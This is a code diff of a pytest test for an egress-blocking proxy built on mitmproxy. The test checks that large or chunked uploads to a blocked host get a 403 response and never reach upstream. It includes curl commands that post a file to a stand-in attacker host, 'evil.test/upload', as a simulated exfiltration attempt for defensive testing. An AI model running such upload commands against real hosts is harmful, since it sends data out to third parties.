@@ -649,21 +649,31 @@ def ask_fresh_blocked(env: Env) -> bool:
 @pytest.mark.parametrize(
     ("proto", "chunked"), [("--http1.1", False), ("--http1.1", True), ("--http2", False)]
 )
-def test_blocked_large_upload_closed_never_reaches_upstream(env: Env, proto: str, chunked: bool):
-    """Over 1 MiB (or chunked) to a blocked host: the connection is closed (mitmproxy 11
-    cannot answer before the body ends without crashing); nothing reaches upstream."""
+def test_blocked_large_upload_gets_403_and_never_reaches_upstream(
+    env: Env, proto: str, chunked: bool
+):
+    """Over 1 MiB (or chunked) to a blocked host: mitmproxy 11 cannot answer before the
+    body ends, so the block sink takes the body and sends the same 403; nothing
+    reaches upstream (the upstream echoes body_len; it must not appear)."""
     before = env.mark()
     size = 3 * 1024 * 1024
     blob = env.work / "home" / "blob-evil"
     blob.write_bytes(b"e" * size)
     os.chown(blob, CLIENT_UID, CLIENT_UID)
     extra = ["-H", "Transfer-Encoding: chunked"] if chunked else []
-    r = env.curl(proto, *extra, "--data-binary", f"@{blob}", "https://evil.test/upload")
-    assert r.returncode != 0 and "body_len" not in r.stdout
+    r = env.curl("-i", proto, *extra, "--data-binary", f"@{blob}", "https://evil.test/upload")
+    assert r.returncode == 0, r.stderr
+    assert "body_len" not in r.stdout
+    # curl sends Expect: 100-continue for a large body; the interim answer comes first.
+    final = re.sub(r"\AHTTP/1\.1 100 Continue\r?\n\r?\n", "", r.stdout)
+    body = assert_block_response(final, "host_not_allowed", "https://evil.test/upload")
+    assert "Block-Token" not in r.stdout
     [line] = env.new_lines(before, 1)
-    assert line["action"] == "BLOCK" and line["status"] is None and line["method"] == "POST"
+    assert line["action"] == "BLOCK" and line["status"] == 403 and line["method"] == "POST"
+    assert line["host"] == "evil.test" and line["bytes_out"] == size, line
     assert "has crashed" not in env.interceptor_err.read_text()
-    # A small body to a blocked host still gets the 403 explanation.
+    assert body
+    # A small body to a blocked host gets the 403 straight from the gate.
     before = env.mark()
     r = env.curl("-i", "--data-binary", "small", "https://evil.test/upload")
     assert_block_response(r.stdout, "host_not_allowed", "https://evil.test/upload")
